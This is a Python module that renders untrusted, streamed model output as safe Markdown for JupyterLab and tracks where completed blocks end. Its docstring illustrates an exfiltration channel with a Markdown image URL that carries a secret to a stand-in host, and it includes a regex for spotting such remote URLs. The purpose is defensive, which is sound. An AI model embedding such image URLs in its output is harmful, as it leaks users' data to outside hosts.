"""Markdown for streamed content: safe HTML, and where the finished blocks end.

Content is untrusted (model output) and JupyterLab does not sanitise live outputs, so raw HTML in
it is shown as text, never interpreted; ordinary Markdown (code, lists, tables, links) renders.
Nothing it points to is fetched: an image with a remote URL (``![](https://host/x?secret=...)``,
a tracking pixel or an exfiltration channel) renders as a link to click, not an ``<img>``,
unless ``remote_images`` is asked for. Relative paths and the ``data:`` images markdown-it lets
through (PNG, JPEG, GIF, WebP; no SVG) still render: the browser loads them from no other host.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from functools import lru_cache
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token

# a URL with a scheme other than data:, or a network-path reference (//host/...): markdown-it has
# percent-encoded backslashes and spaces by then, so no other spelling reaches another host
_REMOTE = re.compile(r"(?!data:)[a-z][a-z0-9+.-]*:|//", re.IGNORECASE)


@lru_cache(maxsize=2)
def _parser(remote_images: bool) -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(
        ["table", "strikethrough"]
    )
    if not remote_images:
        parser.add_render_rule("image", _image_as_link)
    return parser


def to_html(text: str, *, remote_images: bool = False) -> str:
    """Markdown rendered to HTML with raw HTML escaped (and javascript: links refused); images
    with remote URLs become links unless ``remote_images``."""
    return str(_parser(remote_images).render(text))


def _image_as_link(
    renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: Any, env: Any
) -> str:
    """An image from another host as a link (its alt text, else its URL), never fetched."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if not _REMOTE.match(src):
        return renderer.image(tokens, idx, options, env)
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    return (f'<a href="{escape(src)}" class="wfnb-remote-image" rel="noopener noreferrer" '
            f'target="_blank" title="{escape("remote image, not loaded: " + src)}">'
            f"{escape('image: ' + (alt or src))}</a>")


def escape(text: str) -> str:
    """Text made safe to put inside HTML."""
    return html.escape(text, quote=True)


class BlockSplitter:
    """Finds where finished Markdown blocks end in growing text, in linear time.

    A block is finished at a blank line outside a fenced code block; text after it may still
    change how it renders, text before it never will.
    """

    def __init__(self) -> None:
        self._scanned = 0
        self._fence: str | None = None

    def feed(self, text: str) -> list[int]:
        """Scan the complete lines added since the last call; the block ends found there."""
        end = text.rfind("\n") + 1
        position = self._scanned
        found: list[int] = []
        while position < end:
            newline = text.index("\n", position)
            line = text[position:newline].strip()
            position = newline + 1
            if self._fence is not None:
                if line.startswith(self._fence):
                    self._fence = None
            elif line.startswith(("```", "~~~")):
                self._fence = line[:3]
            elif not line:
                found.append(position)
        self._scanned = max(self._scanned, end)
        return found

    def drop(self, count: int) -> None:
        """The caller removed the first ``count`` characters of the text (all scanned)."""
        self._scanned -= count
